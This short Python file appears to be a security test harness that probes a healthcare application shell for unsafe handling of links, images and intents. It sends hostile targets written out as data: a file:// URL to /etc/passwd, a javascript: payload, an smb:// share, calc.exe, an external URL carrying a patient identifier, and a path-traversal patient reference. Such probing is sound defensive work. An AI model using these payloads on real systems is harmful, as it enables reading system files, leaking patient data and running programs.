"""Wants the shell to open a file, a program or a page: by link, by picture, by intent."""

from bare import Panel, node, send

TARGETS = ("file:///etc/passwd", "http://ond.example/?pasient=BEB-18", "javascript:alert(1)", "smb://ond/x", "calc.exe")


class Linker(Panel):
    def attack(self):
        for target in TARGETS:
            for name in ("open Patient", "open File", "open Url", "view Document", "print Everything"):
                context = {"patient": target, "url": target, "href": target}
                send(method="raise", params={**self.at, "intent": {"name": name, "context": context}})
        pictures = [node("image", f"b{n}", src=one, url=one, href=one) for n, one in enumerate(TARGETS)]
        texts = [node("text", f"t{n}", text=f'<a href="{one}">klikk</a>') for n, one in enumerate(TARGETS)]
        self.render(node("column", "rot", *pictures, *texts), 2)
        return {"raise": [{"name": "open Patient", "context": {"patient": "Patient/BEB-19/../../x"}}]}

    def effects(self, found):
        return found


Linker().run()
